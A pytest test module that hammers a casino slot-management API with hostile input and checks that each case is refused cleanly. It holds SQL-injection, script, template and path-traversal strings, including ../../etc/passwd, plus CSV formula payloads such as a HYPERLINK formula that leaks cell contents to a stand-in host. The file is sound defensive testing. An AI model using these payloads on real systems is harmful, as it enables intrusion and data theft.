"""Hostile input on every endpoint that takes a JSON body (and every path/query text), authenticated as a caller
the authorisation matrix allows, starting from the matrix's valid sample body (``Floor.body``):

* each integer field: beyond BIGINT (2**63, -2**63 - 1, 10**30), negative where the schema says ≥ 0, a
  float (1.5 and 100.0), a numeric string, a boolean → 422 problem+json naming that field;
* the whole body: oversized (413), nested 5,000 deep (400), not UTF-8 (400), not an object, an unknown field
  → 4xx problem+json naming ``body`` / the field;
* and after all of those: not one row of any table changed and the ledger audit is identical;
* each text field: SQL and script strings, NUL, over-long text → never a 5xx; refused with a problem naming
  the field, or kept verbatim (read back where the API shows it), the books balanced and the floor intact;
* NUL and SQL in path variables and query parameters → 4xx problem+json, never a 5xx;
* path integers beyond BIGINT → 404 problem+json (were 500 on SQLite and PostgreSQL).

Existing narrower cases (tests/e2e/test_floor_api.py: deep JSON on spin/login, 413 on bill-in, one non-UTF-8
body) are kept; this extends them to every endpoint. Endpoints in table_games/* (being rewritten by other
engineers) are skipped here like in the schemathesis run.
"""

from __future__ import annotations

import json
import uuid

import pytest

from slotsys.kernel.security import ROLES
from tests.e2e.test_authz_matrix import ALLOWED, Floor, _snapshot
from tests.e2e.test_schemathesis import EXCLUDED_MODULES

HUGE = (2**63, -(2**63) - 1, 10**30)
HOSTILE_TEXT = ("'; DROP TABLE machines; --", "\" OR 1=1 --", "<script>alert('x')</script>", "{{7*7}}${7*7}",
                "../../etc/passwd", "ＭＯＮＥＹ 💰 مرحبا")


def _caller(endpoint: str) -> str:
    allowed = ALLOWED[endpoint]
    if "anonymous" in allowed:
        return "anonymous"
    if "machine" in allowed:
        return "machine"
    staff = sorted(c for c in allowed if c in ROLES and c != "admin")
    return staff[0] if staff else ("admin" if "admin" in allowed else "player")


def _body_operations(app, floor: Floor):
    """(endpoint, method, url, caller, sample body, body schema) for every JSON-body operation."""
    spec = app.test_client().get("/openapi.json").json
    schemas = spec["components"]["schemas"]
    ops = []
    for rule in app.url_map.iter_rules():
        if app.view_functions[rule.endpoint].__module__.startswith(EXCLUDED_MODULES) or rule.endpoint not in ALLOWED:
            continue
        path = rule.rule.replace("<int:", "<")
        for a in rule.arguments:
            path = path.replace(f"<{a}>", "{" + a + "}")
        for method in sorted(rule.methods & {"POST", "PUT", "PATCH"}):
            op = spec["paths"].get(path, {}).get(method.lower(), {})
            content = op.get("requestBody", {}).get("content", {}).get("application/json")
            if not content:
                continue
            body = floor.body(rule.endpoint)
            assert body is not None, f"{rule.endpoint} takes a body: add a valid sample to Floor.body (test_authz_matrix)"
            ref = content["schema"]["$ref"].rsplit("/", 1)[-1]
            values = floor.path_values(rule.endpoint)
            url = rule.build({a: values[a] for a in rule.arguments})[1]
            ops.append((rule.endpoint, method, url, _caller(rule.endpoint), body, schemas[ref]))
    return ops


def _int_fields(schema: dict, body: dict):
    for name, value in body.items():
        if isinstance(value, int) and not isinstance(value, bool):
            yield name, _property(schema, name)


def _property(schema: dict, name: str) -> dict:
    prop = schema.get("properties", {}).get(name, {})
    for alt in prop.get("anyOf", []):  # Optional[...] is anyOf [{…}, {"type": "null"}]
        if alt.get("type") != "null":
            return alt
    return prop


def _non_negative(prop: dict) -> bool:
    return prop.get("minimum", -1) >= 0 or prop.get("exclusiveMinimum", -1) >= 0


def _send(api, floor, caller, method, url, *, body=None, data=None):
    headers = {**floor.headers(caller), "Idempotency-Key": uuid.uuid4().hex}
    if data is not None:
        headers["Content-Type"] = "application/json"
        r = api.client.open(url, method=method, data=data, headers=headers)
    else:
        r = api.client.open(url, method=method, json=body, headers=headers)
    try:
        return r.status_code, r.headers.get("Content-Type", ""), r.get_json(silent=True) or {}
    finally:
        r.close()


@pytest.fixture
def floor(api):
    return Floor(api, tables=False)


def test_hostile_bodies_are_refused_naming_the_field_and_change_nothing(api, app, floor):
    ops = _body_operations(app, floor)
    assert len(ops) >= 35
    before_rows, before_audit = _snapshot(app), api.audit()
    wrong: list[str] = []
    tried = 0

    def expect(desc, got, status_ok, field):
        nonlocal tried
        tried += 1
        status, ctype, problem = got
        if not status_ok(status) or ctype != "application/problem+json" or (field and problem.get("field") != field):
            wrong.append(f"{desc} → {status} {ctype} field={problem.get('field')!r} {problem.get('detail', '')[:120]}"
                         f" (expected field {field!r})")

    for endpoint, method, url, caller, body, schema in ops:
        where = f"{caller} {method} {url}"
        for name, prop in _int_fields(schema, body):
            bad_values = [*HUGE, 1.5, float(body[name]), str(body[name]), True]
            if _non_negative(prop):
                bad_values.append(-1)
            for bad in bad_values:
                expect(f"{where} {name}={bad!r}", _send(api, floor, caller, method, url, body={**body, name: bad}),
                       lambda s: s == 422, name)
        expect(f"{where} oversized", _send(api, floor, caller, method, url, body={**body, "pad": "x" * 70_000}),
               lambda s: s == 413, "body")
        expect(f"{where} deep", _send(api, floor, caller, method, url, data=b'{"a":' * 5_000 + b"1" + b"}" * 5_000),
               lambda s: s == 400, "body")
        raw = json.dumps(body).encode()
        not_utf8 = raw[:-1] + b', "x": "\xff\xfe\xc3\x28"}' if len(body) else b'{"x": "\xff\xfe"}'
        expect(f"{where} not UTF-8", _send(api, floor, caller, method, url, data=not_utf8), lambda s: s == 400, "body")
        for top in (b"[]", b'"text"', b"12") + ((b"null",) if schema.get("required") else ()):  # null is {}
            expect(f"{where} body {top!r}", _send(api, floor, caller, method, url, data=top),
                   lambda s: 400 <= s < 500, None)
        expect(f"{where} unknown field", _send(api, floor, caller, method, url, body={**body, "admin": True}),
               lambda s: s == 422, "admin")
    assert tried > 400
    assert not wrong, f"{len(wrong)} of {tried} hostile bodies were not refused as expected:\n" + "\n".join(wrong)
    after_rows = _snapshot(app)
    changed = {k: (before_rows[k], after_rows[k]) for k in before_rows if before_rows[k] != after_rows[k]}
    assert not changed, f"refused bodies changed rows: {changed}"
    assert api.audit() == before_audit


def test_hostile_text_in_every_text_field_is_refused_or_kept_verbatim(api, app, floor):
    ops = _body_operations(app, floor)
    machines_before = _snapshot(app)["machines"]
    wrong: list[str] = []
    for endpoint, method, url, caller, body, schema in ops:
        for name, value in body.items():
            if not isinstance(value, str):
                continue
            for bad in (*HOSTILE_TEXT, "a\x00b", "x" * 5_000):
                status, ctype, problem = _send(api, floor, caller, method, url, body={**body, name: bad})
                if status >= 500:
                    wrong.append(f"{caller} {method} {url} {name}={bad[:30]!r} → {status} {problem.get('detail')}")
                elif status >= 400 and ctype != "application/problem+json":
                    wrong.append(f"{caller} {method} {url} {name}={bad[:30]!r} → {status} {ctype}, not a problem")
                elif status == 422 and not problem.get("field"):
                    wrong.append(f"{caller} {method} {url} {name}={bad[:30]!r} → 422 naming no field")
                elif bad in ("a\x00b", "x" * 5_000) and status < 400:
                    wrong.append(f"{caller} {method} {url} {name}={bad[:30]!r} → {status}: accepted")
    assert not wrong, "\n".join(wrong)
    assert api.audit()["balanced"] is True
    assert _snapshot(app)["machines"] == machines_before

    # where the API shows the text back, it is the text that was sent, byte for byte
    for text in HOSTILE_TEXT:
        r = api.as_staff("host", "POST", "/api/v1/players", {"name": text, "pin": "1234"})
        assert r.status_code in (200, 201), r.json
        pid = r.json["player"]["id"] if isinstance(r.json.get("player"), dict) else r.json.get("player", r.json.get("id"))
        view = api.as_staff("host", "GET", f"/api/v1/players/{pid}", key=None).json
        assert json.dumps(view, ensure_ascii=False).count(json.dumps(text, ensure_ascii=False)[1:-1]) >= 1, view
        level = floor.level
        r = api.as_staff("operator", "PATCH", f"/api/v1/jackpots/levels/{level}", {"name": text}, key=None)
        assert r.status_code == 200, r.json
        assert api.as_staff("operator", "GET", f"/api/v1/jackpots/levels/{level}", key=None).json["name"] == text


HOSTILE_URLS = [
    "/api/v1/jackpots/levels/a%00b", "/api/v1/machines/M%00/meters", "/api/v1/jackpots/hits?level=%00",
    "/api/v1/players?card_number=%00", "/api/v1/tito/reports/issued?from=%00",
    "/api/v1/jackpots/levels/%27%3B%20DROP%20TABLE%20machines%3B--", "/api/v1/machines/%27%20OR%201%3D1--/meters",
    "/api/v1/players?card_number=%27%20OR%201%3D1--", "/api/v1/tito/reports/voided?from=1%27%20OR%201=1--",
    "/api/v1/tickets/%3Cscript%3E", "/api/v1/players/1/statement?wallet=%27--",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_hostile_paths_and_queries_are_problems(api, url):
    role = {"jackpots": "operator", "machines": "operator", "players": "host", "tito": "auditor",
            "tickets": "cashier"}[url.split("/")[3].split("?")[0]]
    r = api.as_staff(role, "GET", url, key=None)
    assert 400 <= r.status_code < 500 and r.headers["Content-Type"] == "application/problem+json", (r.status_code, r.data)
    assert r.json.get("field"), r.json


def test_path_ids_outside_the_integer_columns_are_422_naming_them(api, app):
    """Every ``<int:…>`` path variable (player, redemption and hit ids, round and hand numbers) is looked up in
    an SQL INTEGER column: 0, 2**31 (was a 500 on PostgreSQL), 2**63 and 10**30 → 422 naming the variable."""
    tried = 0
    for rule in app.url_map.iter_rules():
        ints = [a for a, conv in rule._converters.items() if type(conv).__name__ == "IdConverter"]
        if not ints:
            continue
        for bad in (0, 2**31, 2**63, 10**30):
            url = rule.rule
            for a in rule.arguments:
                url = url.replace(f"<int:{a}>", str(bad)).replace(f"<{a}>", "M001")
            for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                r = api.as_staff("admin", method, url, {} if method in ("POST", "PUT", "PATCH") else None)
                assert r.status_code == 422 and r.headers["Content-Type"] == "application/problem+json", (url, r.json)
                assert r.json["field"] == ints[0], (url, r.json)
                tried += 1
    assert tried >= 4 * 20


@pytest.mark.parametrize("field, value", [("points_idle_days", 10**12), ("redemption_hold_seconds", 10**12),
                                          ("promo_won_per_point", 10**12), ("cash_won_per_point", 10**12)])
def test_program_settings_that_would_overflow_dates_or_amounts_are_refused(api, field, value):
    """Found by schemathesis: idle days of 10**12 were stored, then every player read and rating was a 500
    (OverflowError: date value out of range)."""
    before = api.as_staff("host", "GET", "/api/v1/players/config", key=None).json
    r = api.as_staff("admin", "PATCH", "/api/v1/players/config/program", {field: value}, key=None)
    assert r.status_code == 422 and r.json["field"] == field and r.headers["Content-Type"] == "application/problem+json"
    assert api.as_staff("host", "GET", "/api/v1/players/config", key=None).json == before
    pid = api.creds["players"][0]["player"]
    assert api.as_staff("host", "GET", f"/api/v1/players/{pid}", key=None).status_code == 200


# ------------------------------------------------------------------ the outside tester's findings (docs/hostile-input.md)
INT32_OVER = 2**31  # one above the INTEGER columns: a 500 on PostgreSQL before (NumericValueOutOfRange)


def _problem(r, status: int, field: str | None) -> dict:
    assert r.status_code == status and r.headers["Content-Type"] == "application/problem+json", (r.status_code, r.data)
    if field is not None:
        assert r.json["field"] == field, r.json
    return r.json


def test_ids_above_the_integer_columns_are_422_naming_them(api):
    """The tester's 500s on PostgreSQL: a player, a table round, a poker and a mahjong hand, a deposit (path) and
    a seat's ``player_id`` (body) of 2**31. Same on SQLite (where they were 404s and 409s)."""
    before = api.audit()
    for role, method, url, field in [
        ("host", "GET", f"/api/v1/players/{INT32_OVER}", "player_id"),
        ("host", "GET", f"/api/v1/players/{2**63 - 1}/points", "player_id"),
        ("pit", "GET", f"/api/v1/tables/BAC-01/rounds/{INT32_OVER}", "number"),
        ("pit", "GET", f"/api/v1/poker/tables/PK-01/hands/{INT32_OVER}", "number"),
        ("pit", "GET", f"/api/v1/mahjong/tables/MJ-01/hands/{INT32_OVER}", "number"),
        ("attendant", "POST", f"/api/v1/jackpots/hits/{INT32_OVER}/handpay", "hit_id"),
    ]:
        _problem(api.as_staff(role, method, url), 422, field)
    _problem(api.as_staff("cashier", "POST", f"/api/v1/players/{INT32_OVER}/deposit", {"amount": 1_000}), 422,
             "player_id")
    _problem(api.as_machine("M001", "POST", f"/api/v1/machines/M001/redemptions/{INT32_OVER}/ack"), 422,
             "redemption_id")
    for pid in (INT32_OVER, 0, 2**63 - 1):
        _problem(api.as_staff("pit", "POST", "/api/v1/tables/BAC-01/seats", {"seat": "1", "player_id": pid}), 422,
                 "player_id")
    # the largest id is an ordinary "not found"
    assert api.as_staff("host", "GET", f"/api/v1/players/{2**31 - 1}", key=None).status_code == 404
    assert api.audit() == before


BAD_QUERIES = [
    ("/api/v1/jackpots/hits?limit=%C2%B2", "limit"),  # ² : str.isdigit() says yes, int() says no (was a 500)
    ("/api/v1/jackpots/hits?limit=abc", "limit"),
    ("/api/v1/jackpots/hits?limit=-1", "limit"),
    ("/api/v1/jackpots/hits?limit=0", "limit"),
    ("/api/v1/jackpots/hits?limit=501", "limit"),
    ("/api/v1/jackpots/events?limit=%C2%B2", "limit"),
    ("/api/v1/jackpots/events?limit=1001", "limit"),
    ("/api/v1/jackpots/events?limit=1e3", "limit"),
    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=%C2%B2", "shoe_no"),
    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=99999999999999999999999", "shoe_no"),
    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=2147483648", "shoe_no"),
    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=0", "shoe_no"),
    ("/api/v1/players/1/sessions?limit=%D9%A3", "limit"),  # Arabic-Indic three: int() would take it
    ("/api/v1/players/1/points?limit=100000", "limit"),
    ("/api/v1/players/1/statement?wallet=both", "wallet"),
    ("/api/v1/players/1/statement?limit=x", "limit"),
    ("/api/v1/tito/reports/voided?from=yesterday", "from"),
    ("/api/v1/tito/reports/issued?to=2026-1-1", "to"),
    ("/api/v1/tito/reports/outstanding?format=xlsx", "format"),
    ("/api/v1/tito/reports/outstanding?format=csv&table=nope", "table"),
    ("/api/v1/jackpots/stream?max_seconds=inf", "max_seconds"),
    ("/api/v1/jackpots/stream?max_seconds=%C2%B2", "max_seconds"),
    ("/api/v1/games/tiger_reels_243/par-sheet?variation=" + "9" * 50, "variation"),
]


def test_bad_query_parameters_are_422_naming_them(api, cases=BAD_QUERIES):
    """Every query parameter is declared (pydantic query models): a bad value is a 422 naming it, never a 500
    nor a silent default."""
    wrong = []
    for url, field in cases:
        role = {"jackpots": "operator", "tables": "pit", "players": "host", "tito": "auditor", "games": "operator"}[
            url.split("/")[3].split("?")[0]]
        r = api.as_staff(role, "GET", url, key=None)
        if r.status_code != 422 or r.headers["Content-Type"] != "application/problem+json" or r.json["field"] != field:
            wrong.append(f"{url} → {r.status_code} {r.get_json(silent=True)}")
    assert not wrong, "\n".join(wrong)


def test_good_query_parameters_still_work(api):
    assert len(api.as_staff("operator", "GET", "/api/v1/jackpots/hits?limit=1", key=None).json["hits"]) <= 1
    assert api.as_staff("operator", "GET", "/api/v1/jackpots/events?limit=1000", key=None).status_code == 200
    assert api.as_staff("auditor", "GET", "/api/v1/tito/reports/voided?from=&to=", key=None).status_code == 200
    assert api.as_staff("pit", "GET", "/api/v1/tables/BAC-01/roadmaps?shoe_no=1", key=None).status_code in (200, 404)


def _player_balance(api, pid) -> dict:
    return api.as_staff("host", "GET", f"/api/v1/players/{pid}", key=None).json


def test_duplicate_json_keys_are_400_naming_the_key_and_change_nothing(api):
    """``{"amount":1000,"amount":50000}`` credited ₩50,000 (the last key won)."""
    from tests.e2e.test_players_api import enrol

    pid = enrol(api)["player"]
    before, audit = _player_balance(api, pid), api.audit()
    headers = {"Authorization": f"Bearer {api.staff_token('cashier')}", "Idempotency-Key": uuid.uuid4().hex,
               "Content-Type": "application/json"}
    r = api.client.post(f"/api/v1/players/{pid}/deposit", data=b'{"amount":1000,"amount":50000}', headers=headers)
    p = _problem(r, 400, "amount")
    assert "more than once" in p["detail"]
    nested = b'{"lines": 1, "multiplier": 1, "x": {"a": 1, "a": 2}}'  # at any depth, even in a field refused later
    r = api.client.post("/api/v1/machines/M001/spin", data=nested, headers={
        "Authorization": f"Bearer {api.key('M001')}", "Idempotency-Key": uuid.uuid4().hex, "Content-Type": "application/json"})
    _problem(r, 400, "a")
    # also on a route that takes no body: parsed before any route runs
    r = api.client.post("/api/v1/machines/M001/cash-out", data=b'{"a":1,"a":1}', headers={
        "Authorization": f"Bearer {api.key('M001')}", "Idempotency-Key": uuid.uuid4().hex, "Content-Type": "application/json"})
    _problem(r, 400, "a")
    assert _player_balance(api, pid) == before and api.audit() == audit


def test_json_bodies_that_are_not_utf8_are_400_saying_so(api):
    """UTF-16 JSON was accepted (Python's json.loads(bytes) guesses the encoding); RFC 8259 §8.1 says UTF-8."""
    from tests.e2e.test_players_api import enrol

    pid = enrol(api)["player"]
    before, audit = _player_balance(api, pid), api.audit()
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"):
        headers = {"Authorization": f"Bearer {api.staff_token('cashier')}", "Idempotency-Key": uuid.uuid4().hex,
                   "Content-Type": "application/json"}
        r = api.client.post(f"/api/v1/players/{pid}/deposit", data=json.dumps({"amount": 1000}).encode(encoding),
                            headers=headers)
        p = _problem(r, 400, "body")
        assert "UTF-8" in p["detail"] and p["encoding"] == "utf-8", (encoding, p)
    assert _player_balance(api, pid) == before and api.audit() == audit


def test_a_declared_charset_other_than_utf8_is_400(api):
    headers = {"Authorization": f"Bearer {api.key('M001')}", "Idempotency-Key": uuid.uuid4().hex,
               "Content-Type": "application/json; charset=utf-16"}
    r = api.client.post("/api/v1/machines/M001/bill-in", data=json.dumps({"amount": 10_000}).encode("utf-16"),
                        headers=headers)
    _problem(r, 400, "Content-Type")
    headers["Content-Type"] = "application/json; charset=UTF-8"
    assert api.client.post("/api/v1/machines/M001/bill-in", data=b'{"amount": 10000}', headers=headers).status_code == 200


def test_retry_after_on_every_429(api, monkeypatch):
    """The TITO guard's lock-out and the PIN throttle say when to come back (they only said it in the body)."""
    from tests.e2e.test_players_api import card_in, deposit, enrol, transfer
    from tests.e2e.test_tito_api import ticket
    tito_settings = api.app.extensions["slotsys"].tito.settings
    monkeypatch.setattr(tito_settings, "guard_max_failures", 2)
    real = ticket(api, "M006", 1_000)["validation_number"]
    from tito.domain.validation import SystemValidation

    gen = SystemValidation()
    for _ in range(2):
        api.as_staff("kiosk", "POST", "/api/v1/kiosk/redeem", {"validation_number": gen.next_number()})
    r = api.as_staff("kiosk", "POST", "/api/v1/kiosk/redeem", {"validation_number": real})
    _problem(r, 429, "validation_number")
    assert 1 <= int(r.headers["Retry-After"]) <= tito_settings.guard_lockout_seconds, r.headers.get("Retry-After")

    p = enrol(api, pin="2468")
    deposit(api, p["player"], 100_000)
    assert card_in(api, "M008", p["card_number"]).status_code == 201
    for _ in range(3):
        transfer(api, "M008", p["card_number"], 10_000, pin="1111")
    r = transfer(api, "M008", p["card_number"], 10_000)
    _problem(r, 429, "pin")
    assert int(r.headers["Retry-After"]) == r.json["retry_after"]  # the seconds the body already gave


def test_security_headers_on_pages_docs_and_the_api(api):
    import base64
    import hashlib
    import re

    page = api.client.get("/cashier")
    csp = page.headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, csp
    assert "script-src 'self';" in csp  # no inline script on a page
    assert b"<script>" not in page.data and b" style=" not in page.data and b"onclick" not in page.data
    for r in (page, api.client.get("/docs"), api.as_staff("auditor", "GET", "/api/v1/audit/ledger", key=None),
              api.client.get("/api/v1/floor")):
        assert r.headers["X-Frame-Options"] == "DENY" and r.headers["X-Content-Type-Options"] == "nosniff", r.headers
        assert r.headers["Referrer-Policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
    assert api.client.get("/api/v1/floor").headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
    docs = api.client.get("/docs")
    inline = re.findall(rb"<script>(.*?)</script>", docs.data, re.S)
    script_src = next(d for d in docs.headers["Content-Security-Policy"].split(";") if d.strip().startswith("script-src"))
    for body in inline:  # the offline Swagger UI page has none; any that appears is allowed only by its hash
        assert f"'sha256-{base64.b64encode(hashlib.sha256(body).digest()).decode()}'" in script_src, script_src
    assert "unsafe-inline" not in script_src and "unsafe-eval" not in script_src


def test_reports_export_csv_from_the_server_with_formula_cells_neutralised(api):
    """A void reason typed as a formula was written as a live formula by the browser's CSV export."""
    import csv
    import io

    from tests.e2e.test_tito_api import ticket

    reasons = ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1", "plain, \"quoted\""]
    numbers = []
    for reason in reasons:
        vn = ticket(api, "M003", 1_000)["validation_number"]
        r = api.as_staff("supervisor", "POST", f"/api/v1/tickets/{vn}/void", {"reason": reason})
        assert r.status_code in (200, 201), r.json
        numbers.append(vn)
    r = api.as_staff("auditor", "GET", "/api/v1/tito/reports/voided?format=csv&table=tickets", key=None)
    assert r.status_code == 200 and r.mimetype == "text/csv", (r.status_code, r.data[:300])
    assert "attachment" in r.headers["Content-Disposition"]
    text = r.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    stored = {t["validation_number"]: t["reason"]
              for t in api.as_staff("auditor", "GET", "/api/v1/tito/reports/voided", key=None).json["tickets"]}
    assert len(rows) == len(stored) >= len(reasons) and set(numbers) <= set(stored)
    for row in rows:  # every formula-like reason (the service trims the tab / CR ones to "=1") is text, not a formula
        reason = stored[row["validation_number"]]
        expected = "'" + reason if reason[:1] in ("=", "+", "-", "@", "\t", "\r") else reason
        assert row["reason"] == expected, (row, reason)
    assert sum(row["reason"].startswith("'") for row in rows) == len(reasons) - 1
    assert 'plain, "quoted"' in {row["reason"] for row in rows}  # ordinary text is kept as it is, RFC 4180 quoted
